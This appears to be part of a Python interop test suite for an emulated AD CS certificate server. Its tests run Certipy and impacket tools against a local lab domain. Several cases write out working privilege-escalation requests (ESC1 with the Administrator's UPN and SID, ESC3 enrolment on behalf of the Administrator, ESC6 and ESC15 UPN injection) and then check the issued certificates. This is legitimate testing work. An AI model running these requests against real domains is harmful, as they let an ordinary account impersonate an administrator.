    # The CA's own (ESC6, ESC7, ESC11, ESC16) come from its registry over SMB.
    smb_server(ctx)
    check_lab_find(ctx, certipy5_exe(), ("ESC1", "ESC2", "ESC3", "ESC4", "ESC6", "ESC7", "ESC8", "ESC9",
                                         "ESC11", "ESC13", "ESC15", "ESC16"))


@case("certipy.find_flags_each_lab_esc_on_its_template", modes=("lab",), transports=("https",))
def _(ctx):
    smb_server(ctx)
    check_lab_find(ctx, certipy_exe(), ("ESC1", "ESC2", "ESC3", "ESC4", "ESC6", "ESC7", "ESC8", "ESC9", "ESC11"))


def lab_req(ctx, exe, template, *extra):
    """A certificate Certipy requests over RPC as alice; the pfx's certificate."""
    s = ctx.server
    rpc_server(ctx)
    out = run_certipy(ctx, exe + ["req", "-u", "alice@contoso.test", "-p", ALICE[1], "-ca", s.ca_name(),
                                  "-target-ip", s.host, "-dc-ip", s.host, "-dynamic-endpoint",
                                  "-template", template, "-timeout", "15"] + list(extra))
    pfx = files_with(ctx.workdir, ".pfx")
    check(len(pfx) == 1, "no .pfx (%r): %s" % (pfx, out_tail(out)))
    _key, cert = load_pfx(os.path.join(ctx.workdir, pfx[0]))
    check_issued_by(cert, s.ca_cert())
    return out, cert


def extension_value(cert, dotted):
    try:
        return cert.extensions.get_extension_for_oid(x509.ObjectIdentifier(dotted)).value
    except x509.ExtensionNotFound:
        return None


def policy_oids(cert, dotted):
    """The OIDs of a certificate or application policies extension."""
    value = extension_value(cert, dotted)
    if value is None:
        return []
    if isinstance(value, x509.CertificatePolicies):
        return [p.policy_identifier.dotted_string for p in value]
    # Application policies: SEQUENCE OF SEQUENCE { OID } (unrecognised raw DER).
    return re.findall(r"\d+(?:\.\d+)+", oids_in_der(value.value))


def oids_in_der(der):
    """Every OBJECT IDENTIFIER in DER bytes, dotted, space-separated."""
    out, i = [], 0
    while i + 2 <= len(der):
        if der[i] == 0x06 and i + 2 + der[i + 1] <= len(der):
            body = der[i + 2 : i + 2 + der[i + 1]]
            arcs, n = [body[0] // 40, body[0] % 40], 0
            for b in body[1:]:
                n = (n << 7) | (b & 0x7F)
                if not b & 0x80:
                    arcs.append(n)
                    n = 0
            out.append(".".join(map(str, arcs)))
            i += 2 + der[i + 1]
        else:
            i += 1
    return " ".join(out)


ADMIN_UPN = "administrator@" + DNS_DOMAIN


def account_sid(ctx, name):
    """An account's objectSid as the directory (ldap3, NTLM) gives it."""
    import ldap3
    info = ldap_server(ctx)
    host, port = info["url"].rsplit("/", 1)[1].rsplit(":", 1)
    server = ldap3.Server(host, port=int(port), connect_timeout=15)
    conn = ldap3.Connection(server, user=ALICE[0], password=ALICE[1], authentication=ldap3.NTLM,
                            receive_timeout=30)
    check(conn.bind(), "NTLM bind: %s" % conn.result)
    conn.search(info["domain_dn"], "(sAMAccountName=%s)" % name, attributes=["objectSid"])
    check(len(conn.entries) == 1, "%s: %r" % (name, conn.entries))
    sid = str(conn.entries[0].objectSid)
    conn.unbind()
    return sid


@case("certipy5.esc1_req_with_the_administrators_upn_and_sid", modes=("lab",), transports=("https",))
def _(ctx):
    sid = account_sid(ctx, "Administrator")
    check(sid.endswith("-500"), "the administrator's SID %s" % sid)
    _out, cert = lab_req(ctx, certipy5_exe(), "ESC1", "-upn", ADMIN_UPN, "-sid", sid)
    check([u.lower() for u in san_upns(cert)] == [ADMIN_UPN], "UPN %r" % san_upns(cert))
    urls = cert.extensions.get_extension_for_class(x509.SubjectAlternativeName).value.get_values_for_type(
        x509.UniformResourceIdentifier)
    check("tag:microsoft.com,2022-09-14:sid:" + sid in urls, "SID URL %r" % urls)


@case("certipy.esc1_req_with_the_administrators_upn", modes=("lab",), transports=("https",))
def _(ctx):
    _out, cert = lab_req(ctx, certipy_exe(), "ESC1", "-upn", ADMIN_UPN)
    check([u.lower() for u in san_upns(cert)] == [ADMIN_UPN], "UPN %r" % san_upns(cert))


def esc3_on_behalf_of_the_administrator(ctx, exe):
    """ESC3 end to end: an agent certificate from the ESC3 template, then a
    User certificate for the administrator requested with it."""
    _out, agent = lab_req(ctx, exe, "ESC3")
    check(x509.ObjectIdentifier("1.3.6.1.4.1.311.20.2.1") in ekus(agent), "agent EKUs %r" % ekus(agent))
    agent_pfx = os.path.join(ctx.workdir, files_with(ctx.workdir, ".pfx")[0])
    s = ctx.server
    out = run_certipy(ctx, exe + ["req", "-u", "alice@contoso.test", "-p", ALICE[1], "-ca", s.ca_name(),
                                  "-target-ip", s.host, "-dc-ip", s.host, "-dynamic-endpoint",
                                  "-template", "User", "-on-behalf-of", "CONTOSO\\Administrator",
                                  "-pfx", agent_pfx, "-timeout", "15"])
    made = [os.path.join(ctx.workdir, f) for f in files_with(ctx.workdir, ".pfx")]
    made = [f for f in made if f != agent_pfx]
    check(len(made) == 1, "no administrator .pfx (%r): %s" % (made, out_tail(out)))
    _key, cert = load_pfx(made[0])
    check([u.lower() for u in san_upns(cert)] == [ADMIN_UPN], "UPN %r" % san_upns(cert))
    check_issued_by(cert, s.ca_cert())
    # The CA's record names the administrator as requester and alice as agent.
    m = re.search(r"Request ID is (\d+)", out)
    check(m, "no request ID: %s" % out_tail(out))
    r = s.ca("audit", m.group(1))
    check(r.returncode == 0, "`ca audit` exited %s: %s" % (r.returncode, r.stderr))
    audit = json.loads(r.stdout)
    check(audit.get("agent") == "CONTOSO\\alice" and audit.get("requester") == "CONTOSO\\Administrator",
          "audit %r" % audit)


@case("certipy.esc3_agent_certificate_then_on_behalf_of_the_administrator", modes=("lab",), transports=("https",))
def _(ctx):
    esc3_on_behalf_of_the_administrator(ctx, certipy_exe())


@case("certipy5.esc3_agent_certificate_then_on_behalf_of_the_administrator", modes=("lab",), transports=("https",))
def _(ctx):
    esc3_on_behalf_of_the_administrator(ctx, certipy5_exe())


@case("certipy.esc6_upn_on_the_user_template", modes=("lab", "enterprise"), transports=("https",))
def _(ctx):
    _out, cert = lab_req(ctx, certipy_exe(), "User", "-upn", ADMIN_UPN)
    want = ADMIN_UPN if ctx.server.mode == "lab" else "alice@" + DNS_DOMAIN
    check([u.lower() for u in san_upns(cert)] == [want], "UPN %r, want %s" % (san_upns(cert), want))


@case("certipy5.esc9_and_esc16_certificates_carry_no_sid", modes=("lab", "enterprise"), transports=("https",))
def _(ctx):
    template = "ESC9" if ctx.server.mode == "lab" else "User"
    _out, cert = lab_req(ctx, certipy5_exe(), template)
    has_sid = extension_value(cert, "1.3.6.1.4.1.311.25.2") is not None
    check(has_sid == (ctx.server.mode != "lab"), "SID extension present: %s" % has_sid)


@case("certipy5.esc13_the_issuance_policy_is_in_the_certificate", modes=("lab",), transports=("https",))
def _(ctx):
    _out, cert = lab_req(ctx, certipy5_exe(), "ESC13")
    policies = policy_oids(cert, "2.5.29.32")
    check(len(policies) == 1 and policies[0].startswith("1.3.6.1.4.1.311.21.8."), "policies %r" % policies)


@case("certipy5.esc15_application_policies_from_the_request", modes=("lab", "enterprise"), transports=("https",))
def _(ctx):
    template = "ESC15" if ctx.server.mode == "lab" else "WebServer"
    _out, cert = lab_req(ctx, certipy5_exe(), template, "-upn", ADMIN_UPN,
                         "-application-policies", "Client Authentication")
    copied = policy_oids(cert, "1.3.6.1.4.1.311.21.10")
    want = ["1.3.6.1.5.5.7.3.2"] if ctx.server.mode == "lab" else []
    check(copied == want, "application policies %r, want %r" % (copied, want))



# --------------------------------------------------------------------------
# SMB on 445: impacket's smbclient.py and reg.py (0.13.1, from the interop
# venv) against the named pipes. reg.py asks the service manager first, as
# an administrator may (an ordinary account is refused there, as on Windows).
def impacket_example(name):
    here = os.path.dirname(os.path.abspath(sys.executable))
    p = os.path.join(here, name)
    if not os.path.exists(p):
        raise Skip("%s is not in the interop venv" % name)
    return [p]


def impacket_run(ctx, name, target, *args, stdin_text="", env=None):
    smb_server(ctx)
    cmd = impacket_example(name) + [target] + list(args)
    log("%s: %s" % (name, " ".join(cmd)))
    try:
        r = subprocess.run(cmd, cwd=ctx.workdir, input=stdin_text, capture_output=True, text=True,
                           timeout=CLIENT_TIMEOUT, env=env)
    except subprocess.TimeoutExpired:
        raise Fail("%s timed out after %d s" % (name, CLIENT_TIMEOUT))
    out = r.stdout + "\n" + r.stderr
    log(out)
    return r.returncode, out


def smb_target(user, password):
    domain, name = user.split("\\")
    return "%s/%s:%s@127.0.0.1" % (domain, name, password)


@case("smb.smbclient_lists_ipc", modes=("enterprise",), transports=("http",))
def _(ctx):
    _rc, out = impacket_run(ctx, "smbclient.py", smb_target(*ALICE), stdin_text="shares\nexit\n")
    check(re.search(r"^IPC\$\s+IPC \(SPECIAL\)\s+Remote IPC", out, re.M), "no IPC$ listed: %s" % out[-400:])
    since = getattr(ctx, "journal_from", 0)
    signed_in = [e.get("user") for e in journal(ctx)
                 if e.get("seq", 0) > since and e.get("method") == "SMB" and e.get("path") == "SESSION_SETUP"
                 and e.get("status") == 200]
    check("CONTOSO\\alice" in signed_in, "SMB sign-ins journaled: %r" % signed_in)


@case("smb.smbclient_kerberos_from_a_ticket_cache", modes=("enterprise",), transports=("http",))
def _(ctx):
    # kinit and kvno get the tickets (impacket's own TGS exchange fails
    # against MIT); the realm in upper case, as MIT compares it.
    env = signed_in_alice(ctx)
    kvno = tool("kvno", "krb5-user")
    r = subprocess.run([kvno, "cifs/" + CA_HOST], env=env, capture_output=True, timeout=60)
    check(r.returncode == 0, "kvno: %s" % (r.stdout + r.stderr).decode(errors="replace"))
    target = "%s/alice@%s" % (realm(ctx)["realm"], CA_HOST)
    _rc, out = impacket_run(ctx, "smbclient.py", target, "-k", "-no-pass", "-dc-ip", ctx.server.host,
                            "-target-ip", ctx.server.host, stdin_text="shares\nexit\n", env=env)
    check(re.search(r"^IPC\$\s+IPC", out, re.M), "no IPC$ listed: %s" % out[-400:])
    check(("CONTOSO\\alice", "kerberos") in journal_auth(ctx, "SESSION_SETUP"),
          "journal: %r" % journal_auth(ctx, "SESSION_SETUP"))


@case("smb.smbclient_wrong_password_is_status_logon_failure", modes=("enterprise",), transports=("http",))
def _(ctx):
    _rc, out = impacket_run(ctx, "smbclient.py", smb_target(ALICE[0], WRONG_PASSWORD), stdin_text="exit\n")
    expect(out, "STATUS_LOGON_FAILURE", "smbclient.py")


def reg_query(ctx, key, value):
    info = ctx.server.info
    target = smb_target(info["admin"]["user"], info["admin"]["password"])
    rc, out = impacket_run(ctx, "reg.py", target, "query", "-keyName", "HKLM\\" + key, "-v", value)
    m = re.search(r"^\s*%s\s+(REG_\w+)\s+(.*)$" % re.escape(value), out, re.M)
    check(rc == 0 and m, "reg.py %s -v %s: %s" % (key, value, out[-400:]))
    # REG_SZ data ends with its NUL, as Windows stores it (reg.py prints it).
    kind, text = m.group(1), m.group(2).strip().rstrip("\x00")
    return kind, int(text, 0) if kind == "REG_DWORD" else text


@case("smb.reg_py_reads_the_ca_flags_from_the_registry", transports=("http", "https"))
def _(ctx):
    ca = "SYSTEM\\CurrentControlSet\\Services\\CertSvc\\Configuration\\" + ctx.server.ca_name()
    policy = ca + "\\PolicyModules\\CertificateAuthority_MicrosoftDefault.Policy"
    # The HTTPS servers run with IF_ENFORCEENCRYPTICERTREQUEST off (ESC11).
    interface = 0x641 if ctx.server.transport == "http" else 0x441
    disposition = 0x1 if ctx.server.mode == "enterprise" else 0x101
    for key, value, want in ((ca, "InterfaceFlags", ("REG_DWORD", interface)),
                             (policy, "EditFlags", ("REG_DWORD", 0x11014e)),
                             (policy, "RequestDisposition", ("REG_DWORD", disposition)),
                             (ca + "\\PolicyModules", "Active",
                              ("REG_SZ", "CertificateAuthority_MicrosoftDefault.Policy"))):
        got = reg_query(ctx, key, value)
        check(got == want, "%s\\%s is %r, want %r" % (key, value, got, want))


def selected(name, patterns):
    if not patterns:
        return True
    return any(p == name or p in name or fnmatch.fnmatchcase(name, p) for p in patterns)


def one_line(s):
    s = " ".join(str(s).split())
    return s if len(s) <= 600 else s[:600] + "..."


def main():
    global VERBOSE, CONTAINER, CONTAINER_KERBEROS
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--bin", help="path to the adcs-harness binary")
    ap.add_argument("--only", action="append", default=[], metavar="NAME", help="run only matching cases (repeatable)")
    ap.add_argument("--list", action="store_true", help="list case names and exit")
    ap.add_argument("--verbose", "-v", action="store_true", help="client output and tracebacks on stderr")
    ap.add_argument("--keep", action="store_true", help="keep server and case temp directories")
    ap.add_argument("--container", metavar="IMAGE", help="run serve in this image (podman, host network)")
    ap.add_argument("--container-kerberos", action="store_true",
                    help="the image has MIT's KDC (container/build.sh --kdc): serve it with --kerberos")
    args = ap.parse_args()
    VERBOSE = args.verbose
    CONTAINER = args.container
    CONTAINER_KERBEROS = args.container_kerberos

    # requests lets REQUESTS_CA_BUNDLE / CURL_CA_BUNDLE override a Session's
    # `verify` (psf/requests#3829): certsrv's cafile=root_cert and certipy's
    # verify=False would both be ignored. Drop them for us and for certipy.
    for var in ("REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE"):
        os.environ.pop(var, None)

    todo = [c for c in CASES if selected(c[0], args.only)]
    if args.list:
        for c in todo:
            print(c[0])
        return 0
    if not args.bin:
        ap.error("--bin is required")
    binary = os.path.abspath(args.bin)
    if not os.path.isfile(binary):
        print("interop: no such binary: %s" % binary, file=sys.stderr)
        return 2
    if not todo:
        print("interop: no case matches %r" % args.only, file=sys.stderr)
        return 2

    passed = failed = skipped = 0
    for mode in MODES + ("lab", "hardened"):
        for transport in TRANSPORTS:
            group = [c for c in todo if c[2] == mode and c[3] == transport]
            if not group:
                continue
            server = Server(binary, mode, transport)
            try:
                try:
                    server.start()
                except Exception as e:  # noqa: BLE001
                    for name, _fn, _m, _t in group:
                        print("FAIL %s: server did not start: %s" % (name, one_line(e)), flush=True)
                        failed += 1
                    print(server.log_tail(), file=sys.stderr)
                    continue
                for name, fn, _m, _t in group:
                    workdir = tempfile.mkdtemp(prefix="case-", dir=server.dir)
                    try:
                        if not server.alive():
                            raise Fail("server process has exited (status %s)" % server.proc.poll())
                        fn(Ctx(server, workdir))
                    except Skip as e:
                        print("SKIP %s: %s" % (name, one_line(e)), flush=True)
                        skipped += 1
                    except AssertionError as e:
                        print("FAIL %s: %s" % (name, one_line(e) or "assertion failed"), flush=True)
                        failed += 1
                        if VERBOSE:
                            traceback.print_exc()
                    except Exception as e:  # noqa: BLE001
                        print("FAIL %s: %s: %s" % (name, type(e).__name__, one_line(e)), flush=True)
                        failed += 1
                        if VERBOSE:
                            traceback.print_exc()
                    else:
                        print("PASS %s" % name, flush=True)
                        passed += 1
                if not server.alive():
                    print("server %s/%s died; log tail:\n%s" % (mode, transport, server.log_tail()), file=sys.stderr)
            finally:
                server.stop()
                if args.keep:
                    print("kept %s" % server.dir, file=sys.stderr)
                else:
                    server.cleanup()

    print("interop: %d passed, %d failed, %d skipped" % (passed, failed, skipped), flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except KeyboardInterrupt:
        sys.exit(130)
